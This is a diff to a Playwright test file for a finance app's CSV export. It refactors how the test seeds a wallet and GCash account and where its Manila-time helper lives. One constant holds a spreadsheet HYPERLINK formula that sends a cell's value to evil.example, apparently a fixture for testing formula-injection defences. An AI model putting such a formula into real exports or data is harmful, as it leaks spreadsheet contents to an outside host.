@@ -8,7 +8,8 @@ import { expect, test, type APIRequestContext, type Download, type Page } from '
 import { parse } from 'papaparse';
 import { readFile } from 'node:fs/promises';
 import { expectNoSeriousA11yViolations } from '../support/axe';
-import { seedSetUpUser, seedTransfer, writeDocument } from '../support/ledger';
+import { seedTransfer, seedWalletAnd, writeDocument } from '../support/ledger';
+import { manilaTime as at } from '../support/manila-time';
 import type { Plain } from '../support/rest-values';
 import { signIn, toast } from '../support/session';
 import { describeOnPhone, expectNoWiderThanScreen } from '../support/layout';
@@ -16,21 +17,14 @@ import { describeOnPhone, expectNoWiderThanScreen } from '../support/layout';
 // Friday 27 November 2026, 00:30 in Manila (still the 26th in UTC and in Los Angeles): "Last 7
 // Days" starts at 00:30 on 20 November.
 const NOW = new Date('2026-11-27T00:30:00+08:00');
-const at = (manila: string) => new Date(`${manila}+08:00`);
 const CREATED = at('2026-11-01T09:00:00');
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Refund")';
 
 /** Wallet and GCash, and one transaction of every kind, written as the app would have. */
 async function seedHistory(request: APIRequestContext) {
-  const user = await seedSetUpUser(request, {
-    prefix: 'export',
-    accounts: [
-      { name: 'Wallet', type: 'cash', balance: 50_000 },
-      { name: 'GCash', type: 'ewallet', balance: 5_000 },
-    ],
-  });
-  const [wallet, gcash] = user.accounts;
+  const household = await seedWalletAnd(request, 'export', 50_000, { name: 'GCash', type: 'ewallet', balance: 5_000 });
+  const { user, wallet, second: gcash } = household;
   const write = (id: string, date: string, fields: Record<string, Plain>) =>
     writeDocument(request, `users/${user.uid}/transactions/${id}`, {
       type: 'expense',
